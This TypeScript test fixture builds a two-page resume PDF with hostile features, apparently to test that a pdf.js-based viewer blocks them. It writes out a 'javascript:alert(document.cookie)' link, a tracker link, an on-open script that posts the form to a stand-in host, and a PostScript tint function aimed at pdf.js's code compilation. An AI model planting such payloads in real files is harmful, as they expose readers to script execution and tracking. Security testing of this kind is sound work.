/**
 * A two-page resume written by a real PDF writer (pdf-lib) that tries what a hostile one would:
 * JavaScript run on opening (an alert and a form post to another host), a link to `javascript:`
 * and one to a tracker, and a colour whose tint is a PostScript function (type 4), which pdf.js
 * compiles with `new Function` unless it is told not to (decision 076). The name has accents, so
 * the viewer's text must come through as Unicode, not as the font's codes.
 */
import { PDFDocument, PDFName, PDFOperator, PDFOperatorNames, PDFString, StandardFonts, rgb } from "pdf-lib";

export const pdfName = "Zoë Ångström";
export const pdfSecondPage = "References on request: Lund University, 2019.";
export const pdfTrackerUrl = "https://tracker.example/opened";

export async function hostilePdf(): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const bold = await doc.embedFont(StandardFonts.HelveticaBold);
  const { context } = doc;

  const first = doc.addPage([595, 842]);
  first.drawText(pdfName, { x: 56, y: 760, size: 28, font: bold });
  first.drawText("Site reliability engineer, Malmö", { x: 56, y: 726, size: 14, font });
  first.drawText("Portfolio", { x: 56, y: 690, size: 12, font, color: rgb(0, 0.2, 0.7) });
  first.drawText("Talks", { x: 56, y: 670, size: 12, font, color: rgb(0, 0.2, 0.7) });

  // A band coloured through a Separation colour space whose tint transform is a PostScript function.
  const tint = context.flateStream("{ dup dup }", {
    FunctionType: 4,
    Domain: [0, 1],
    Range: [0, 1, 0, 1, 0, 1],
  });
  const ink = context.obj([
    PDFName.of("Separation"),
    PDFName.of("Ink"),
    PDFName.of("DeviceRGB"),
    context.register(tint),
  ]);
  first.node.Resources()!.set(PDFName.of("ColorSpace"), context.obj({ Ink: ink }));
  first.pushOperators(
    PDFOperator.of(PDFOperatorNames.NonStrokingColorspace, [PDFName.of("Ink")]),
    PDFOperator.of(PDFOperatorNames.NonStrokingColorN, [context.obj(0.4)]),
    PDFOperator.of(
      PDFOperatorNames.AppendRectangle,
      [56, 640, 483, 6].map((n) => context.obj(n)),
    ),
    PDFOperator.of(PDFOperatorNames.FillNonZero),
  );

  const link = (y: number, uri: string) =>
    context.register(
      context.obj({
        Type: "Annot",
        Subtype: "Link",
        Rect: [56, y, 160, y + 14],
        Border: [0, 0, 0],
        A: { Type: "Action", S: "URI", URI: PDFString.of(uri) },
      }),
    );
  first.node.set(
    PDFName.of("Annots"),
    context.obj([link(688, "javascript:alert(document.cookie)"), link(668, pdfTrackerUrl)]),
  );

  const second = doc.addPage([595, 842]);
  second.drawText(pdfSecondPage, { x: 56, y: 760, size: 14, font });

  // Run on opening, by a reader that runs a file's scripts: an alert and a post of the form elsewhere.
  const script = `app.alert("opened"); this.submitForm("${pdfTrackerUrl}");`;
  doc.catalog.set(PDFName.of("OpenAction"), context.obj({ Type: "Action", S: "JavaScript", JS: PDFString.of(script) }));
  doc.addJavaScript("onOpen", script);
  return doc.save();
}
